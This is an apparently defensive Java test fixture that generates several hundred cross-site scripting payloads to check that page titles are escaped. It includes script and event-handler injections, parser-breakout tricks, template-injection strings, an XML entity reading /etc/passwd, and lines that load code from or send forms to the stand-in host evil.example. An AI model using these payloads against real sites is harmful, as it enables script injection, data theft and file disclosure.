package jp.madoguchi.check;

import java.util.List;
import java.util.stream.Stream;

/** Three hundred texts that a browser would take for more than text if anybody let it; the same ones every time. */
final class HostileMarkup {

    /** What a title can hold. */
    static final int LONGEST = 120;

    private static final List<String> ATTACKS = List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\t>alert(1)</script\n>",
            "<img src=x onerror=alert(1)>",
            "<img src=//evil.example/pixel>",
            "<IMG SRC=`javascript:alert(1)`>",
            "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
            "<svg onload=alert(1)>",
            "<svg><script>alert&#40;1&#41;</script>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text y=9>x</text></a>",
            "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
            "<iframe src=javascript:alert(1)>",
            "<iframe srcdoc=\"<script>alert(1)</script>\">",
            "<object data=//evil.example/x.swf>",
            "<embed src=//evil.example/x>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<style>@import '//evil.example/x.css';</style>",
            "<style>*{background:url(//evil.example/x)}</style>",
            "<meta http-equiv=refresh content=0;url=//evil.example/>",
            "<base href=//evil.example/>",
            "<form action=//evil.example/><button>はい</button></form>",
            "<input autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)>",
            "<audio src=x onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<a href=javascript:alert(1)>こちら</a>",
            "<a href=//evil.example/ ping=//evil.example/p>こちら</a>",
            "<template><img src=x onerror=alert(1)></template>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
            "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
            "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
            "<plaintext>",
            "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
            "<![CDATA[<img src=x onerror=alert(1)>]]>",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>&e;",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "&#60;img src=x onerror=alert(1)&#62;",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
            "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
            "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
            "javascript:alert(1)",
            "data:text/html,<script>alert(1)</script>",
            "\",\"x\":\"</script><script>alert(1)</script>",
            "\\\"}];alert(1);//",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)}#{alert(1)}{0}{1,number}%s%n",
            "'; alert(1); //",
            "\u202E<b>gnp.exe</b>\u202C\u2066x\u2069",
            "\u0001\u0008\u000B\u001F\u007F\u0085<b>\uFEFF\uFFFE",
            "一行目\r\n二行目\r<br>三行目\u2028\u2029\t<hr>",
            "  <b>  前後の空白  </b>  ",
            "\uD83D\uDE00<i>\uD842\uDFB7\uDB40\uDD00</i>",
            "e\u0301\u0301\u0301\u0301\u0301\u0301<u>z\u0336\u0337</u>",
            "<".repeat(40) + "&".repeat(40) + "\"'".repeat(10));

    /** Ways out of where a text stands: an attribute, an element, a comment, a script. */
    private static final List<String> WAYS_OUT =
            List.of("", "\">", "' autofocus x='>", "</h2></p></article></main>", "--></style></title></script>");

    private HostileMarkup() {}

    /** Each at most {@link #LONGEST} characters, all distinct. */
    static List<String> all() {
        return ATTACKS.stream()
                .flatMap(attack -> WAYS_OUT.stream().map(way -> way + attack))
                .flatMap(text -> text.length() <= LONGEST ? Stream.of(text) : Stream.of(text.substring(0, LONGEST)))
                .distinct()
                .toList();
    }
}
